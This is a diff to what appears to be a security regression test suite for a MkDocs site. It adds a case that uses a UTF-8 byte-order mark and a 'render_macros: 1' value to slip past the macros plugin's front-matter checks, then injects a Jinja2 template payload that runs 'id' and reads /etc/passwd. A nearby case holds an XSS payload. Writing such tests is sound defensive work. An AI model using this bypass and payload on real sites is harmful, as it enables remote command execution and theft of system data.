@@ -143,6 +143,22 @@ def comment_empty_differential():
     build("comment_empty_differential", {REC: page(REC, f"<!--> {XSS} -->")}, grep=r"<img src=x onerror")
 
 
+@case
+def bom_ssti():
+    # MkDocs reads pages as utf-8-sig, macros/pages.py as utf-8: with a BOM the front matter is never checked.
+    # render_macros: 1 is `== True` for the macros plugin but not `is True` for the plugin's second check.
+    text = (ROOT / TRAIN).read_text(encoding="utf-8").replace("render_macros: true", "render_macros: 1")
+    text += "\n\nBuilt by: {{ cycler.__init__.__globals__.os.popen('id; head -1 /etc/passwd').read() }}\n"
+    build("bom_ssti", {TRAIN: b"\xef\xbb\xbf" + text.encode()}, grep=r"uid=\d+|root:x:0")
+
+
+@case
+def bom_ssti_without_bom_refused():
+    text = (ROOT / TRAIN).read_text(encoding="utf-8").replace("render_macros: true", "render_macros: 1")
+    text += "\n\nBuilt by: {{ cycler.__init__.__globals__.os.popen('id').read() }}\n"
+    build("bom_ssti_without_bom_refused", {TRAIN: text}, grep=r"uid=\d+")
+
+
 if __name__ == "__main__":
     for name in sys.argv[1:] or list(CASES):
         CASES[name]()
